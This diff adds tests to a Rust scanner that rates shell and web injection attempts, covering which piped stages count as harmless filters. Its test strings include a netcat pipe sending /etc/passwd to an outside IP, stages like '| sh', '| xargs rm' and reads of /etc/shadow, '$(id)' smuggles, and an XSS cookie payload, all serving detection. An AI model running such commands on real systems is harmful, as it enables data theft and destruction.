@@ -144,6 +144,61 @@ fn a_harmless_command_does_not_hide_the_attack_behind_it() {
     }
 }
 
+/// Lowers whatever is no later stage of a pipeline.
+struct First;
+
+impl Weigh for First {
+    fn weigh(&self, question: &Question<'_>) -> Confidence {
+        let own = question.evidence;
+        let later = question.input.text.get(own.span.start) == Some(&b'|');
+        if later {
+            own.confidence
+        } else {
+            own.confidence.less()
+        }
+    }
+}
+
+#[test]
+fn a_filter_behind_a_harmless_command_is_not_asked_about() {
+    for (text, wanted) in [
+        ("cat /etc/passwd | sort -rn | wc -l", Confidence::Likely),
+        (
+            "cat /etc/passwd | sort -rn | nc 198.51.100.7 80",
+            Confidence::Certain,
+        ),
+    ] {
+        let found = sure(&Scanner::weighing(&First), text, (Place::Query, "id"));
+        assert_eq!(found, Some(wanted), "{text}");
+    }
+}
+
+#[test]
+fn only_stages_that_order_or_cut_what_they_are_given_are_filters() {
+    for stage in [
+        "| sort -rn",
+        "|wc -l",
+        "| grep -i \"time out\"",
+        "| head -20 ",
+    ] {
+        assert!(is_filter(stage.as_bytes()), "{stage}");
+    }
+    for stage in [
+        "| sh",
+        "; sort",
+        "| sort -o /etc/passwd",
+        "| grep x /etc/shadow",
+        "| head $(id)",
+        "| tail > a",
+        "| sortx",
+        "| xargs rm",
+        "| sort; id",
+        "| grep `id`",
+    ] {
+        assert!(!is_filter(stage.as_bytes()), "{stage}");
+    }
+}
+
 #[test]
 fn an_attack_that_is_likely_becomes_certain() {
     let text = "hello <svg/onload=alert(document.cookie)>";
